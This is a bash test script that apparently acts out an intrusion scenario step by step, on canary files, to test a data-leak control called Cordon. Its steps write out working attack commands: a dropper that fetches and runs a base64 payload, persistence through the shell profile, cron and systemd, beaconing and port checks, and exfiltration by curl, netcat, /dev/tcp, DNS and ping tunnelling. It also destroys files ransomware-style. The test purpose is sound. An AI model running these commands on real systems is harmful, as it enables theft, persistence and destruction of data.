#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# story.sh STEP: what the intruder (or the honest user) types in one step, as the user who was
# talked into it. Real tools, canary files only. Exits 0 when the step reached its own goal.
# The same with and without Cordon; nothing here knows of it.
UNK=198.51.100.7 UNK6=2001:db8:7::7 LOW=192.0.2.10 HI=192.0.2.20
secret=/srv/classified/secret work=/srv/classified/work orders=/srv/classified/orders
agent='Mozilla/5.0 (X11; Linux x86_64)'

ask_dns() { # SERVER
	for c in $(xxd -p $secret/plan.txt | fold -w 60); do
		dig +tries=1 +time=1 "@$1" "$c.t.example"
	done
}

case $1 in
1) # the lure: an archive from a "recruiter", with a program shown as a document
	cd ~/Downloads && unzip -qo offer.zip && './offer pdf' ;;
2a) # the dropper fetches the next stage, dressed as a style sheet
	curl -sf "http://$LOW/css/style.css" | base64 -d >~/.config/guiconfigd
	chmod +x ~/.config/guiconfigd && grep -q view.asp ~/.config/guiconfigd ;;
2b) # and another from a host that nobody knows
	curl -sf "http://$UNK/css/style.css" | base64 -d >~/.config/second
	test -s ~/.config/second ;;
3a)
	echo '"$HOME"/.config/guiconfigd login' >>~/.bash_profile ;;
3b)
	echo '@reboot ~/.config/guiconfigd cron' | crontab - ;;
3c)
	units=~/.config/systemd/user
	mkdir -p $units/default.target.wants
	printf '[Service]\nType=oneshot\nExecStart=%%h/.config/guiconfigd systemd\n' \
		>$units/guiconfigd.service
	ln -sf ../guiconfigd.service $units/default.target.wants/ ;;
4)
	for _ in 1 2 3; do
		curl -s -m 5 -A "$agent" "http://$UNK/view.asp?id=$(hostname)-$(cat ~/.config/id)"
	done ;;
5a)
	{
		find /srv /home /etc -name '*.txt'
		grep -rhi -e radar -e secret /srv
		ip route
		ss -tn
		getent passwd
	} >~/.cache/found ;;
5b)
	open=1
	for port in 22 80 443; do
		nc -zvw 2 $UNK $port && open=0
	done
	exit $open ;;
6a) cp -r $secret /tmp/.st ;;
6b) tar czf /tmp/.st.tgz -C /srv/classified secret ;;
6c) zip -qr /tmp/.st.zip $secret ;;
6d)
	openssl enc -aes-256-cbc -pbkdf2 -pass pass:offer -in $secret/plan.txt -out /tmp/.st.enc
	openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:offer -in /tmp/.st.enc | grep -q radar ;;
H1) # honest: open the plan, work on a copy where such copies belong
	cp $secret/plan.txt $work/draft.txt && echo reviewed >>$work/draft.txt &&
		grep -q radar $work/draft.txt ;;
7a) cp -r $secret /tmp/.stc ;;
7b) tar czf /tmp/.stc.tgz -C /srv/classified secret ;;
7c)
	read -r line <$secret/plan.txt
	echo "$line" >/tmp/.stc.txt ;;
7d) cat $secret/radar.txt | base64 | tee ~/notes ;;
7e) tar czf $work/x.tgz -C /srv/classified secret ;;
8a) curl -sk -m 10 -T $work/x.tgz "https://$UNK/upload/x.tgz" ;;
8b) curl -s -m 10 --data-binary @$secret/plan.txt "http://$LOW/view.asp" ;;
8c) nc -N -w 3 $LOW 443 <$work/x.tgz ;;
8d) # the first connection gets the cookie; the second has data in its first packet
	curl -s -m 10 --tcp-fastopen "http://$LOW/"
	curl -s -m 10 --tcp-fastopen --data-binary @$secret/plan.txt "http://$LOW/" ;;
8e) nc -u -w 1 $UNK 5000 <$secret/plan.txt ;;
8f) # a connection that was opened before anything classified was read
	exec 3<>/dev/tcp/$LOW/80
	printf 'POST /view.asp HTTP/1.1\r\nContent-Length: 400\r\n\r\n' >&3
	read -r line <$secret/plan.txt
	printf '%-400s' "$line" >&3 && read -r -t 10 _ <&3 ;;
8g) curl -sg -m 10 -T $secret/plan.txt "http://[$UNK6]/upload/plan.txt" ;;
8h) cat $secret/plan.txt | openssl base64 -A | rev | curl -s -m 10 -T - "http://$LOW/upload/p" ;;
H2) # honest: send the plan to the host that is cleared for it
	curl -sf -m 10 -T $secret/plan.txt "http://$HI/plan.txt" ;;
9) curl -sf -m 10 -T $work/x.tgz 'http://dropbox.example/files/x.tgz' ;;
10a) ask_dns $UNK ;;
10b) ask_dns 127.0.0.53 ;;
10c)
	for c in $(xxd -p -c 16 $secret/plan.txt); do
		ping -c 1 -W 1 -p "$c" $UNK
	done ;;
10d)
	split -b 24 $secret/plan.txt $work/chunk.
	for c in "$work"/chunk.*; do
		curl -s -m 10 -T "$c" "http://$LOW/upload/"
	done ;;
14a)
	openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in $orders/a.txt -out $orders/a.txt.enc
	rm -f $orders/a.txt ;;
14b) shred -u $orders/b.txt ;;
14c) dd if=/dev/urandom of=$orders/c.txt bs=64 count=1 ;;
14d) truncate -s 0 $orders/d.txt ;;
14e)
	echo 'pay us' >~/ransom.txt
	mv -f ~/ransom.txt $orders/e.txt ;;
*)
	echo "story.sh: no step $1" >&2
	exit 2 ;;
esac
